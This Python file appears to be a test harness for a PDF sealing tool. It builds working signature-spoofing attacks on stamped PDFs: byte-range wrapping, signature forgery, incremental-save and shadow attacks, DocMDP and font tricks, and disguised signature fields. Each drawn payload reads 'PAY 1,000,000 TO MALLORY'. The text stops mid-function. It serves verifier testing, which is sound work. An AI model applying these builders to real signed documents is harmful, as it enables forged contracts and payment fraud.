#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""The PDF attack builders of issue #15: one function per class, several variants each, applied
to a PDF that eseal stamped.

  build.py list                          the classes and variants ("plant" marks a variant that
                                         needs content planted before stamping; "refuse" a
                                         variant the issue says must never be VALID, whatever
                                         the renderers show)
  build.py CLASS VARIANT IN.pdf OUT.pdf  writes one attack (exit 3 "not applicable: ..." when
                                         IN has nothing to attack that way, e.g. no DocMDP)
  build.py plant CLASS VARIANT IN.pdf OUT.pdf   the shadow and inherit classes: plants the
                                         content in an unsigned IN before it is stamped

Most variants draw "PAY 1,000,000 TO MALLORY" so that a renderer sees the change. The classes
are those of Mladenov et al., "1 Trillion Dollar Refund: How To Spoof PDF Signatures" (CCS 2019:
byte-range, USF, ISA), Mainka et al., "Shadow Attacks: Hiding and Replacing Content in Signed
PDFs" (NDSS 2021), Mainka et al. on certified documents (IEEE S&P 2021: annotations, widgets,
DocMDP), and the six classes issue #15 found VALID (disguised-sig, redefine, inherit,
catalog-meta, duplicate-sig, certify1-overlay)."""
import re
import sys
import os

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from pdfedit import (Doc, Name, N, Ref, Stream, PAY, helvetica, text_ops, payload_form,  # noqa: E402
                     empty_form, content)


class NotApplicable(Exception):
    pass


# ---- helpers ----------------------------------------------------------------------------------

def first_page(doc):
    return doc.pages[0]


def top_rect(doc, page, h=160):
    x0, y0, x1, y1 = doc.mediabox(page)
    return [round(x0 + 20, 2), round(y1 - 40 - h, 2), round(x1 - 20, 2), round(y1 - 40, 2)]


def full_rect(doc, page):
    return [round(v, 2) for v in doc.mediabox(page)]


def with_annot(doc, page, annot_num, objs):
    """Adds ANNOT_NUM to the page's /Annots (an indirect array is changed where it is)."""
    pg = objs.get(page) or doc.obj(page)
    a = pg.get("/Annots")
    if isinstance(a, Ref):
        arr = objs.get(a.num) or doc.obj(a.num)
        arr.append(Ref(annot_num))
        objs[a.num] = arr
    else:
        pg[N("Annots")] = (a or []) + [Ref(annot_num)]
    objs[page] = pg
    return objs


def with_field(doc, field_num, objs):
    af, holder, in_catalog = doc.acroform()
    f = doc.get(af.get("/Fields")) or []
    if isinstance(af.get("/Fields"), Ref):
        arr = list(f) + [Ref(field_num)]
        objs[af["/Fields"].num] = arr
    else:
        af[N("Fields")] = list(f) + [Ref(field_num)]
    if in_catalog:
        cat = objs.get(holder) or doc.obj(holder)
        cat[N("AcroForm")] = af
        objs[holder] = cat
    else:
        objs[holder] = af
    return objs


def annot_with_ap(doc, page, subtype, rect, extra=None, fill=True):
    """objs for a new annotation of SUBTYPE over RECT whose appearance shows the payload."""
    ap, an = doc.new(), doc.new()
    w, h = rect[2] - rect[0], rect[3] - rect[1]
    d = {N("Type"): N("Annot"), N("Subtype"): N(subtype), N("Rect"): rect, N("F"): 4, N("P"): Ref(page),
         N("AP"): {N("N"): Ref(ap)}}
    d.update(extra or {})
    return an, {ap: payload_form(w, h, fill), an: d}


def payload_page_content(doc, page):
    """A new content stream drawing the payload, and the page with it appended and a font."""
    x0, y0, x1, y1 = doc.mediabox(page)
    c = doc.new()
    pg = doc.obj(page)
    cont = pg.get("/Contents")
    cont = cont if isinstance(cont, list) else ([cont] if cont else [])
    pg[N("Contents")] = cont + [Ref(c)]
    res = doc.page_resources(page)
    fonts = doc.get(res.get("/Font")) or {}
    fonts = dict(fonts)
    fonts[N("FPay")] = helvetica()
    res[N("Font")] = fonts
    pg[N("Resources")] = res
    ops = (b"q 1 1 1 rg %.1f %.1f %.1f %.1f re f Q\n" % (x0 + 20, y1 - 200, x1 - x0 - 40, 160)
           + text_ops(x0 + 30, y1 - 130, 26))
    return {page: pg, c: content(ops)}


def sig_dict_num(doc):
    s = doc.sig_fields()
    if not s:
        raise NotApplicable("no signed signature field")
    return s[0]


def docmdp_p(doc):
    cat = doc.get(Ref(doc.root()))
    perms = doc.get(cat.get("/Perms"))
    if not isinstance(perms, dict) or "/DocMDP" not in perms:
        return None
    sig = doc.get(perms["/DocMDP"])
    for ref in doc.get(sig.get("/Reference")) or []:
        ref = doc.get(ref)
        tp = doc.get(ref.get("/TransformParams")) if isinstance(ref, dict) else None
        if isinstance(tp, dict) and "/P" in tp:
            return int(tp["/P"])
    return 2


def need_p(doc, *ps):
    p = docmdp_p(doc)
    if p not in ps:
        raise NotApplicable("the document is not certified with DocMDP P=%s (it has %s)" % ("/".join(map(str, ps)), p))


def planted(doc, role):
    """The object planted by `build.py plant` with /EsealAttackRole ROLE."""
    n = doc.find(lambda d: d.get("/EsealAttackRole") == "/" + role)
    if not n:
        raise NotApplicable("nothing planted (/EsealAttackRole /%s): plant before stamping" % role)
    return n[0]


# ---- byte-range and USF: the signed bytes themselves -------------------------------------------

def _br(doc):
    m = list(re.finditer(rb"/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\]", bytes(doc.data)))
    if not m:
        raise NotApplicable("no /ByteRange")
    return m[-1]


def _rewrite_br(doc, vals):
    m = _br(doc)
    new = b"/ByteRange [%d %d %d %d]" % tuple(vals)
    old = m.group(0)
    if len(new) > len(old):
        raise NotApplicable("the new /ByteRange is longer than the old")
    doc.data[m.start():m.end()] = new[:-1] + b" " * (len(old) - len(new)) + b"]"


def byte_range(doc, v):
    m = _br(doc)
    a, b, c, d = (int(x) for x in m.groups())
    # /ByteRange is itself in the signed bytes: every rewrite below must break the digest, and a
    # verifier that judges the new ranges alone (the 2019 wrapping attacks) would be fooled.
    if v == "wrap":  # the first signed part stops 10 bytes early: those bytes are no longer signed
        _rewrite_br(doc, (0, b - 10, c, d))
    elif v == "shorter":  # the second part ends before the revision: the end is unsigned and changed
        _rewrite_br(doc, (a, b, c, d - 60))
        doc.append(payload_page_content(doc, first_page(doc)))
    elif v == "overlapping":  # the second part starts inside /Contents
        _rewrite_br(doc, (a, b, b - 20, d + 20))
    elif v == "gap-not-contents":  # the gap is the page's text, /Contents is "signed"
        t = bytes(doc.data).find(b"BT ")
        if t < 0 or t > b:
            raise NotApplicable("no page text before /Contents")
        _rewrite_br(doc, (0, t, t + 200, c + d - t - 200))
        doc.data[t + 10:t + 40] = b"(PAY 1,000,000 TO MALLORY)    "[:30]
    elif v == "moved-second-part":  # signature wrapping: the signed second part moved to the end
        payload = payload_page_content(doc, first_page(doc))
        head, sigpart = bytes(doc.data[:c]), bytes(doc.data[c:c + d])
        doc.data = bytearray(head)
        doc.append(payload)
        pad = doc.data[len(head):]
        doc.data = bytearray(head) + pad + sigpart
        _rewrite_br(doc, (a, b, len(head) + len(pad), d))
    else:
        raise KeyError(v)


def usf(doc, v):
    m = _br(doc)
    a, b, c, d = (int(x) for x in m.groups())
    s = bytes(doc.data)
    contents_at = s.rfind(b"/Contents <", 0, c)
    if v == "byterange-null":
        doc.data[m.start():m.end()] = b"/ByteRange null" + b" " * (len(m.group(0)) - 15)
    elif v == "byterange-missing":
        doc.data[m.start():m.start() + 10] = b"/ByteRangX"
    elif v == "byterange-string":
        doc.data[m.start() + 11] = ord("(")
        doc.data[m.end() - 1] = ord(")")
    elif v == "contents-null":
        doc.data[b:c] = b"null" + b" " * (c - b - 4)
    elif v == "contents-missing":
        if contents_at < 0:
            raise NotApplicable("no /Contents <")
        doc.data[contents_at:contents_at + 9] = b"/Contentz"
    elif v == "contents-number":
        doc.data[b:c] = b"0" + b" " * (c - b - 1)
    else:
        raise KeyError(v)
    doc.append(payload_page_content(doc, first_page(doc)))


# ---- incremental saving ------------------------------------------------------------------------

def _isa(doc, v, mode):
    p = first_page(doc)
    if v == "content":  # page 1's first content stream replaced under its own number
        c = doc.get(Ref(p)).get("/Contents")
        c = c[0] if isinstance(c, list) else c
        if not isinstance(c, Ref):
            raise NotApplicable("no indirect content stream")
        res = doc.page_resources(p)
        f = sorted((doc.get(res.get("/Font")) or {}).keys())
        if not f:
            raise NotApplicable("the page has no font to write with")
        x0, y0, x1, y1 = doc.mediabox(p)
        ops = text_ops(x0 + 40, y1 - 120, 28, font=f[0].encode())
        doc.append({c.num: content(ops)}, mode=mode)
    elif v == "page-dict":
        doc.append(payload_page_content(doc, p), mode=mode)
    elif v == "page-tree":  # the page tree's node gets a new first page drawing the payload
        pg = doc.obj(p)
        newp, c = doc.new(), doc.new()
        res = doc.page_resources(p)
        res[N("Font")] = dict(doc.get(res.get("/Font")) or {}, **{N("FPay"): helvetica()})
        pg[N("Resources")] = res
        x0, y0, x1, y1 = doc.mediabox(p)
        pg[N("Contents")] = Ref(c)
        pg[N("MediaBox")] = [x0, y0, x1, y1]
        pg.pop("/Annots", None)
        parent = pg["/Parent"].num
        node = doc.obj(parent)
        node[N("Kids")] = [Ref(newp) if k == Ref(p) else k for k in node["/Kids"]]
        doc.append({parent: node, newp: pg, c: content(text_ops(x0 + 40, y1 - 120, 28))}, mode=mode)
    elif v == "new-page":  # a page added at the front of the document
        root = doc.get(Ref(doc.root()))["/Pages"].num
        node = doc.obj(root)
        newp, c = doc.new(), doc.new()
        x0, y0, x1, y1 = doc.mediabox(p)
        node[N("Kids")] = [Ref(newp)] + node["/Kids"]
        node[N("Count")] = int(node["/Count"]) + 1
        pg = {N("Type"): N("Page"), N("Parent"): Ref(root), N("MediaBox"): [x0, y0, x1, y1], N("Contents"): Ref(c),
              N("Resources"): {N("Font"): {N("FPay"): helvetica()}}}
        doc.append({root: node, newp: pg, c: content(text_ops(x0 + 40, y1 - 120, 28))}, mode=mode)
    else:
        raise KeyError(v)


def isa(doc, v):
    _isa(doc, v, "table")


def isa_xref_stream(doc, v):
    _isa(doc, v, "stream")


def object_streams(doc, v):
    p = first_page(doc)
    if v == "page":  # page 1 redefined inside a new object stream
        doc.append(payload_page_content(doc, p), mode="objstm")
    elif v == "font":  # the font redefined inside an object stream
        res = doc.page_resources(p)
        fonts = doc.get(res.get("/Font")) or {}
        refs = [x for x in fonts.values() if isinstance(x, Ref)]
        if not refs:
            raise NotApplicable("no indirect font")
        doc.append({refs[0].num: {N("Type"): N("Font"), N("Subtype"): N("Type1"), N("BaseFont"): N("Courier")}}, mode="objstm")
    elif v == "pages-node":  # the page tree node redefined: the first page dropped
        root = doc.get(Ref(doc.root()))["/Pages"].num
        node = doc.obj(root)
        if len(node["/Kids"]) < 2:
            raise NotApplicable("one page only")
        node[N("Kids")] = node["/Kids"][1:]
        node[N("Count")] = int(node["/Count"]) - 1
        doc.append({root: node}, mode="objstm")
    else:
        raise KeyError(v)


def new_root(doc, v):
    p = first_page(doc)
    cat = doc.obj(doc.root())
    x0, y0, x1, y1 = doc.mediabox(p)
    pages, newp, c = doc.new(), doc.new(), doc.new()
    objs = {pages: {N("Type"): N("Pages"), N("Kids"): [Ref(newp)], N("Count"): 1},
            newp: {N("Type"): N("Page"), N("Parent"): Ref(pages), N("MediaBox"): [x0, y0, x1, y1],
                   N("Contents"): Ref(c), N("Resources"): {N("Font"): {N("FPay"): helvetica()}}},
            c: content(text_ops(x0 + 40, y1 - 120, 28))}
    cat[N("Pages")] = Ref(pages)
    if v == "new-catalog":  # a new catalog object, the trailer's /Root changed
        nc = doc.new()
        objs[nc] = cat
        doc.append(objs, trailer={N("Root"): Ref(nc)})
    elif v == "same-number":  # the catalog redefined under its number with other pages
        objs[doc.root()] = cat
        doc.append(objs)
    elif v == "new-catalog-xref-stream":
        nc = doc.new()
        objs[nc] = cat
        doc.append(objs, mode="stream", trailer={N("Root"): Ref(nc)})
    else:
        raise KeyError(v)


def docmdp(doc, v):
    p = first_page(doc)
    if v == "p1-comment":
        need_p(doc, 1)
        an = doc.new()
        doc.append(with_annot(doc, p, an, {an: {N("Type"): N("Annot"), N("Subtype"): N("Text"), N("Rect"): [60, 700, 80, 720],
                                                N("Contents"): PAY}}))
    elif v == "p1-content":
        need_p(doc, 1)
        doc.append(payload_page_content(doc, p))
    elif v == "p2-comment":
        need_p(doc, 2)
        an, objs = annot_with_ap(doc, p, "Text", top_rect(doc, p), {N("Contents"): PAY})
        doc.append(with_annot(doc, p, an, objs))
    elif v == "p2-freetext":
        need_p(doc, 2)
        an, objs = annot_with_ap(doc, p, "FreeText", top_rect(doc, p), {N("Contents"): PAY, N("DA"): b"/Helv 20 Tf 1 0 0 rg"})
        doc.append(with_annot(doc, p, an, objs))
    elif v == "p3-square":  # not a comment type P=3 allows
        need_p(doc, 3)
        an, objs = annot_with_ap(doc, p, "Square", top_rect(doc, p))
        doc.append(with_annot(doc, p, an, objs))
    else:
        raise KeyError(v)


def annotations(doc, v):
    p = first_page(doc)
    r = top_rect(doc, p)
    extra = {"square": ("Square", {N("IC"): [1, 1, 1]}),
             "freetext": ("FreeText", {N("Contents"): PAY, N("DA"): b"/Helv 20 Tf 1 0 0 rg"}),
             "stamp": ("Stamp", {N("Name"): N("Approved")}),
             "ink": ("Ink", {N("InkList"): [[r[0], r[1], r[2], r[3]]]}),
             "link-uri": ("Link", {N("A"): {N("S"): N("URI"), N("URI"): b"https://mallory.example/pay"}, N("Border"): [0, 0, 0]}),
             "link-js": ("Link", {N("A"): {N("S"): N("JavaScript"), N("JS"): b"app.alert('pay')"}, N("Border"): [0, 0, 0]})}
    if v not in extra:
        raise KeyError(v)
    sub, ex = extra[v]
    an, objs = annot_with_ap(doc, p, sub, r, ex)
    doc.append(with_annot(doc, p, an, objs))


def widgets(doc, v):
    p = first_page(doc)
    if v == "new-text-field":
        an, objs = annot_with_ap(doc, p, "Widget", top_rect(doc, p), {N("FT"): N("Tx"), N("T"): b"pay", N("V"): PAY})
        doc.append(with_field(doc, an, with_annot(doc, p, an, objs)))
    elif v == "sig-ap-changed":  # the seal's own widget shows something else
        w, _ = sig_dict_num(doc)
        wd = doc.obj(w)
        r = [float(doc.get(x)) for x in wd.get("/Rect", [0, 0, 100, 100])]
        ap = doc.new()
        wd[N("AP")] = {N("N"): Ref(ap)}
        doc.append({w: wd, ap: payload_form(max(20, r[2] - r[0]), max(20, r[3] - r[1]), True, b"VOID", 20)})
    elif v == "sig-rect-moved":  # the seal's widget moved and enlarged over the text
        w, _ = sig_dict_num(doc)
        wd = doc.obj(w)
        pg = wd.get("/P").num if isinstance(wd.get("/P"), Ref) else p
        wd[N("Rect")] = top_rect(doc, pg)
        doc.append({w: wd})
    elif v == "text-field-ap":  # an existing text field's appearance replaced (a form made by mkform.py)
        # under DocMDP P=1 only: P=2 and P=3 allow form filling, whose new appearance is by
        # definition a new rendering (reported as FORM_FILLED)
        need_p(doc, 1)
        f = doc.find(lambda d: d.get("/FT") == "/Tx" and "/AP" in d)
        if not f:
            raise NotApplicable("no text field with an appearance")
        wd = doc.obj(f[0])
        r = [float(doc.get(x)) for x in wd["/Rect"]]
        ap = doc.new()
        wd[N("AP")] = {N("N"): Ref(ap)}
        wd[N("V")] = PAY
        doc.append({f[0]: wd, ap: payload_form(r[2] - r[0], r[3] - r[1], True, PAY)})
    else:
        raise KeyError(v)


def page_boxes(doc, v):
    p = first_page(doc)
    x0, y0, x1, y1 = doc.mediabox(p)
    if v in ("mediabox", "cropbox", "rotate"):
        pg = doc.obj(p)
        if v == "mediabox":
            pg[N("MediaBox")] = [x0, y0, x1, y0 + (y1 - y0) / 2]
        elif v == "cropbox":
            pg[N("CropBox")] = [x0, y0 + (y1 - y0) / 2, x1, y1]
        else:
            pg[N("Rotate")] = (int(doc.get(doc.inherited(p, "/Rotate")) or 0) + 90) % 360
        doc.append({p: pg})
    elif v in ("inherited-rotate", "inherited-cropbox"):  # changed on the Pages node the page inherits from
        parent = doc.get(Ref(p))["/Parent"].num
        node = doc.obj(parent)
        key = "/Rotate" if v == "inherited-rotate" else "/CropBox"
        if key in doc.get(Ref(p)):
            raise NotApplicable("the page has its own %s" % key)
        if key == "/Rotate":
            node[N("Rotate")] = (int(doc.get(node.get("/Rotate")) or 0) + 180) % 360
        else:
            node[N("CropBox")] = [x0, y0, (x0 + x1) / 2, y1]
        doc.append({parent: node})
    else:
        raise KeyError(v)


def fonts(doc, v):
    p = first_page(doc)
    res = doc.page_resources(p)
    fdict = doc.get(res.get("/Font")) or {}
    refs = [x for x in fdict.values() if isinstance(x, Ref)]
    if v == "redefined":  # the font object becomes another font
        if not refs:
            raise NotApplicable("no indirect font")
        enc = doc.obj(refs[0].num).get("/Encoding")
        enc = enc if isinstance(enc, Name) else N("WinAnsiEncoding")  # a named encoding kept, else WinAnsi
        doc.append({refs[0].num: {N("Type"): N("Font"), N("Subtype"): N("Type1"), N("BaseFont"): N("Courier-Bold"),
                                  N("Encoding"): enc}})
    elif v == "differences":  # the digits drawn as other digits: "2026-001" reads "2026-009"
        if not refs:
            raise NotApplicable("no indirect font")
        f = doc.obj(refs[0].num)
        if f.get("/Subtype") != "/Type1" or "/FontFile" in str(f):
            raise NotApplicable("not a simple Type 1 font")
        f[N("Encoding")] = {N("Type"): N("Encoding"), N("BaseEncoding"): N("WinAnsiEncoding"),
                            N("Differences"): [48, N("nine"), N("eight"), N("seven"), N("six"), N("five"), N("four"),
                                               N("three"), N("two"), N("one"), N("zero")]}
        doc.append({refs[0].num: f})
    elif v == "fontfile-replaced":  # an embedded font program replaced by another one of the file
        files = doc.find(lambda d: any(k in d for k in ("/FontFile", "/FontFile2", "/FontFile3")))
        if len(files) < 2:
            raise NotApplicable("fewer than two embedded fonts")
        a, b = doc.obj(files[0]), doc.get(Ref(files[1]))
        key = [k for k in ("/FontFile", "/FontFile2", "/FontFile3") if k in a][0]
        key2 = [k for k in ("/FontFile", "/FontFile2", "/FontFile3") if k in b][0]
        tgt = a[key].num
        doc.append({tgt: doc.obj(b[key2].num)})
    else:
        raise KeyError(v)


def javascript(doc, v):
    js = {N("S"): N("JavaScript"), N("JS"): b"app.alert('PAY 1,000,000 TO MALLORY')"}
    if v == "openaction":
        cat = doc.obj(doc.root())
        cat[N("OpenAction")] = js
        doc.append({doc.root(): cat})
    elif v == "catalog-aa":
        cat = doc.obj(doc.root())
        cat[N("AA")] = {N("WC"): js}
        doc.append({doc.root(): cat})
    elif v == "page-aa":
        p = first_page(doc)
        pg = doc.obj(p)
        pg[N("AA")] = {N("O"): js}
        doc.append({p: pg})
    else:
        raise KeyError(v)


# ---- shadow attacks (Mainka et al. 2021): planted before stamping, switched on after -----------

def plant(doc, cls, v):
    p = first_page(doc)
    x0, y0, x1, y1 = doc.mediabox(p)
    r = top_rect(doc, p)
    w, h = r[2] - r[0], r[3] - r[1]
    objs = {}
    if cls == "shadow-hide":
        # The payload is in the page content, under an opaque white cover annotation (signed).
        objs.update(payload_page_content(doc, p))
        cover, ap = doc.new(), doc.new()
        objs[ap] = empty_form(w, h)
        objs[ap].data = b"1 1 1 rg 0 0 %.1f %.1f re f\n" % (w, h)
        objs[ap].dict[N("EsealAttackRole")] = N("CoverAP")
        objs[cover] = {N("Type"): N("Annot"), N("Subtype"): N("Square"), N("Rect"): r, N("F"): 4, N("P"): Ref(p),
                       N("IC"): [1, 1, 1], N("C"): [1, 1, 1], N("AP"): {N("N"): Ref(ap)},
                       N("EsealAttackRole"): N("Cover")}
        with_annot(doc, p, cover, objs)
    elif cls == "shadow-replace":
        # A FreeText annotation with an empty appearance (signed), and the font the page uses.
        an, ap = doc.new(), doc.new()
        objs[ap] = empty_form(w, h)
        objs[an] = {N("Type"): N("Annot"), N("Subtype"): N("FreeText"), N("Rect"): r, N("F"): 4, N("P"): Ref(p),
                    N("DA"): b"/Helv 20 Tf 0 g", N("Contents"): b"", N("AP"): {N("N"): Ref(ap)},
                    N("EsealAttackRole"): N("Overlay")}
        with_annot(doc, p, an, objs)
    elif cls == "shadow-hide-and-replace":
        # A payload page and a payload content stream nobody uses yet (signed, invisible).
        c, newp = doc.new(), doc.new()
        objs[c] = Stream({N("EsealAttackRole"): N("Content")},
                         b"q 1 1 1 rg %.1f %.1f %.1f %.1f re f Q\n" % (x0, y0, x1 - x0, y1 - y0)
                         + text_ops(x0 + 40, y1 - 120, 28))
        root = doc.get(Ref(doc.root()))["/Pages"].num
        objs[newp] = {N("Type"): N("Page"), N("Parent"): Ref(root), N("MediaBox"): [x0, y0, x1, y1],
                      N("Contents"): Ref(c), N("Resources"): {N("Font"): {N("FPay"): helvetica()}},
                      N("EsealAttackRole"): N("Page")}
        pg = doc.obj(p)
        res = doc.page_resources(p)
        res[N("Font")] = dict(doc.get(res.get("/Font")) or {}, **{N("FPay"): helvetica()})
        pg[N("Resources")] = res
        objs[p] = pg
    elif cls == "inherit":
        # The first page moved under an intermediate Pages node that gives it its resources and
        # boxes; a second resources dictionary with the payload XObject waits unused; the page's
        # XObject /X0 is empty. Another resources dictionary is labelled /Type /DSS.
        root = doc.get(Ref(doc.root()))["/Pages"].num
        mid, empty, pay, res_alt, res_dss = doc.new(), doc.new(), doc.new(), doc.new(), doc.new()
        pg = doc.obj(p)
        res = doc.page_resources(p)
        pg.pop("/Resources", None)
        pg[N("Parent")] = Ref(mid)
        c = doc.new()
        cont = pg.get("/Contents")
        cont = cont if isinstance(cont, list) else [cont]
        pg[N("Contents")] = cont + [Ref(c)]
        objs[c] = content(b"q 1 0 0 1 %.1f %.1f cm /X0 Do Q\n" % (r[0], r[1]))
        objs[empty] = empty_form(w, h)
        objs[pay] = payload_form(w, h, True)
        objs[res_alt] = dict(res, **{N("XObject"): {N("X0"): Ref(pay)}, N("EsealAttackRole"): N("Resources")})
        base = dict(res, **{N("XObject"): {N("X0"): Ref(empty)}})
        if v == "dss-resources":
            base[N("Type")] = N("DSS")
            base[N("EsealAttackRole")] = N("DSSResources")
            objs[res_dss] = base
            pg[N("Resources")] = Ref(res_dss)
            midres = {}
        else:
            base[N("EsealAttackRole")] = N("MidResources")
            objs[res_dss] = base
            midres = Ref(res_dss)  # an indirect resources dictionary on the intermediate node
        node = doc.obj(root)
        node[N("Kids")] = [Ref(mid) if k == Ref(p) else k for k in node["/Kids"]]
        objs[mid] = {N("Type"): N("Pages"), N("Parent"): Ref(root), N("Kids"): [Ref(p)], N("Count"): 1,
                     N("EsealAttackRole"): N("Mid")}
        if midres:
            objs[mid][N("Resources")] = midres
        objs[root] = node
        objs[p] = pg
    else:
        raise NotApplicable("class %s plants nothing" % cls)
    doc.append(objs)


def shadow_hide(doc, v):
    cover = planted(doc, "Cover")
    p = first_page(doc)
    if v == "remove-cover":  # the cover annotation taken off the page
        pg = doc.obj(p)
        a = pg.get("/Annots")
        if isinstance(a, Ref):
            doc.append({a.num: [x for x in doc.obj(a.num) if x != Ref(cover)]})
        else:
            pg[N("Annots")] = [x for x in a if x != Ref(cover)]
            doc.append({p: pg})
    elif v == "hide-flag":  # the cover annotation flagged Hidden
        an = doc.obj(cover)
        an[N("F")] = 2
        doc.append({cover: an})
    elif v == "empty-ap":  # the cover's appearance stream emptied
        ap = planted(doc, "CoverAP")
        s = doc.obj(ap)
        s.data = b""
        doc.append({ap: s})
    else:
        raise KeyError(v)


def shadow_replace(doc, v):
    if v == "overlay-ap":  # the planted FreeText's appearance now shows the payload
        an = planted(doc, "Overlay")
        d = doc.obj(an)
        r = [float(doc.get(x)) for x in d["/Rect"]]
        ap = doc.new()
        d[N("AP")] = {N("N"): Ref(ap)}
        d[N("Contents")] = PAY
        doc.append({an: d, ap: payload_form(r[2] - r[0], r[3] - r[1], True)})
    elif v == "overlay-contents":  # only its text changed (viewers that regenerate appearances)
        an = planted(doc, "Overlay")
        d = doc.obj(an)
        d[N("Contents")] = PAY
        d.pop("/AP", None)
        doc.append({an: d})
    elif v == "font-overwrite":
        planted(doc, "Overlay")
        fonts(doc, "differences")
    else:
        raise KeyError(v)


def shadow_hide_and_replace(doc, v):
    p = first_page(doc)
    if v == "contents":  # the page's /Contents pointed at the planted stream
        c = planted(doc, "Content")
        pg = doc.obj(p)
        pg[N("Contents")] = Ref(c)
        doc.append({p: pg})
    elif v == "kids":  # the page tree's kid replaced by the planted page
        newp = planted(doc, "Page")
        root = doc.get(Ref(doc.root()))["/Pages"].num
        node = doc.obj(root)
        node[N("Kids")] = [Ref(newp) if k == Ref(p) else k for k in node["/Kids"]]
        doc.append({root: node})
    elif v == "xref-only":  # no object changes: the xref points the content's number at the planted bytes
        c = planted(doc, "Content")
        old = doc.get(Ref(p)).get("/Contents")
        old = old[0] if isinstance(old, list) else old
        m = re.search(rb"\n%d 0 obj\n" % c, bytes(doc.data))
        if not m or not isinstance(old, Ref):
            raise NotApplicable("planted stream not found")
        doc._begin()
        x = len(doc.data)
        doc.data.extend(b"xref\n%d 1\n%010d 00000 n \n" % (old.num, m.start() + 1))
        t = doc._trailer(doc.next, None)
        from pdfedit import ser
        doc.data.extend(b"trailer\n" + ser(t) + b"\nstartxref\n%d\n%%%%EOF\n" % x)
    else:
        raise KeyError(v)


def inherit(doc, v):
    if v == "mid-resources":  # the intermediate Pages node's /Resources switched
        mid = planted(doc, "Mid")
        alt = planted(doc, "Resources")
        node = doc.obj(mid)
        if "/Resources" not in node:
            raise NotApplicable("planted for dss-resources")
        node[N("Resources")] = Ref(alt)
        doc.append({mid: node})
    elif v == "mid-resources-object":  # the node unchanged, its indirect resources dictionary redefined
        mres = planted(doc, "MidResources")
        alt = planted(doc, "Resources")
        d = doc.obj(mres)
        d[N("XObject")] = doc.obj(alt)["/XObject"]
        doc.append({mres: d})
    elif v == "mid-boxes":  # the intermediate node's MediaBox and Rotate changed
        mid = planted(doc, "Mid")
        node = doc.obj(mid)
        x0, y0, x1, y1 = doc.mediabox(first_page(doc))
        node[N("MediaBox")] = [x0, y0, x1, (y0 + y1) / 2]
        node[N("Rotate")] = 180
        doc.append({mid: node})
    elif v == "dss-resources":  # the "DSS" that is the page's resources: its XObject switched
        dss = planted(doc, "DSSResources")
        alt = planted(doc, "Resources")
        d = doc.obj(dss)
        d[N("XObject")] = doc.obj(alt)["/XObject"]
        d[N("Certs")] = []
        cat = doc.obj(doc.root())
        cat[N("DSS")] = Ref(dss)
        doc.append({dss: d, doc.root(): cat})
    else:
        raise KeyError(v)


# ---- the six classes issue #15 found VALID ---------------------------------------------------

def disguised_sig(doc, v):
    p = first_page(doc)
    r = top_rect(doc, p)
    _, sig = sig_dict_num(doc)
    if v in ("freetext", "stamp", "link-js", "link-uri"):
        sub = {"freetext": "FreeText", "stamp": "Stamp", "link-js": "Link", "link-uri": "Link"}[v]
        ex = {N("FT"): N("Sig"), N("T"): b"Signature2"}
        if v == "link-js":
            ex[N("A")] = {N("S"): N("JavaScript"), N("JS"): b"app.alert('pay')"}
        if v == "link-uri":
            ex[N("A")] = {N("S"): N("URI"), N("URI"): b"https://mallory.example/pay"}
        an, objs = annot_with_ap(doc, p, sub, r, ex)
        doc.append(with_field(doc, an, with_annot(doc, p, an, objs)))
    elif v == "second-field-v":  # a second signature field whose /V is the existing signature
        an, objs = annot_with_ap(doc, p, "Widget", r, {N("FT"): N("Sig"), N("T"): b"Signature2", N("V"): Ref(sig)})
        doc.append(with_field(doc, an, with_annot(doc, p, an, objs)))
    elif v == "unsigned-fullpage":  # an unsigned signature field whose appearance covers the page
        an, objs = annot_with_ap(doc, p, "Widget", full_rect(doc, p), {N("FT"): N("Sig"), N("T"): b"Signature2"})
        doc.append(with_field(doc, an, with_annot(doc, p, an, objs)))
    else:
        raise KeyError(v)


def _redefined_page(doc):
    p = first_page(doc)
    objs = payload_page_content(doc, p)
    return p, objs


def redefine(doc, v):
    if v == "generation-table":  # page 1 redefined as generation 1 (classic table)
        p, objs = _redefined_page(doc)
        doc.append(objs, mode="table", gens={p: 1})
    elif v == "generation-stream":
        p, objs = _redefined_page(doc)
        doc.append(objs, mode="stream", gens={p: 1})
    elif v == "twice-in-revision":  # one revision defines page 1 twice: the xref names the first
        from pdfedit import ser
        p, objs = _redefined_page(doc)
        orig = doc.obj(p)
        doc.append(objs, mode="table")
        # a second definition of the page after the objects, before the xref: not listed anywhere
        s = bytes(doc.data)
        x = s.rfind(b"\nxref\n") + 1
        dup = b"%d 0 obj\n" % p + ser(orig) + b"\nendobj\n"
        doc.data[x:x] = dup
        # the startxref moved by len(dup)
        m = list(re.finditer(rb"startxref\n(\d+)\n%%EOF\n$", bytes(doc.data)))[-1]
        doc.data[m.start(1):m.end(1)] = b"%d" % (int(m.group(1)) + len(dup))
    elif v == "after-eof":  # objects after the last %%EOF, no xref section (bait for recovering readers)
        from pdfedit import ser
        p, objs = _redefined_page(doc)
        doc._begin()
        for n, o in sorted(objs.items()):
            doc.data.extend(b"%d 0 obj\n" % n + ser(o) + b"\nendobj\n")
    elif v == "hybrid":  # a classic table and an /XRefStm that disagree about page 1
        from pdfedit import ser
        p, objs = _redefined_page(doc)
        benign = doc.obj(p)
        doc._begin()
        offs = {}
        for n, o in sorted(objs.items()):
            offs[n] = len(doc.data)
            doc.data.extend(b"%d 0 obj\n" % n + ser(o) + b"\nendobj\n")
        bn = len(doc.data)
        doc.data.extend(b"%d 0 obj\n" % p + ser(benign) + b"\nendobj\n")
        xs = doc.new()
        rows, idx = bytearray(), []
        for n in sorted(offs):
            idx += [n, 1]
            rows += b"\x01" + offs[n].to_bytes(4, "big") + b"\x00\x00"
        xo = len(doc.data)
        idx += [xs, 1]
        rows += b"\x01" + xo.to_bytes(4, "big") + b"\x00\x00"
        d = {N("Type"): N("XRef"), N("W"): [1, 4, 2], N("Index"): idx, N("Size"): doc.next}
        doc.data.extend(b"%d 0 obj\n" % xs + ser(Stream(d, bytes(rows))) + b"\nendobj\n")
        x = len(doc.data)
        doc.data.extend(b"xref\n%d 1\n%010d 00000 n \n" % (p, bn))
        t = doc._trailer(doc.next, {N("XRefStm"): xo})
        doc.data.extend(b"trailer\n" + ser(t) + b"\nstartxref\n%d\n%%%%EOF\n" % x)
    else:
        raise KeyError(v)


def catalog_meta(doc, v):
    cat = doc.obj(doc.root())
    if v in ("dss-action", "dss-extra-keys"):
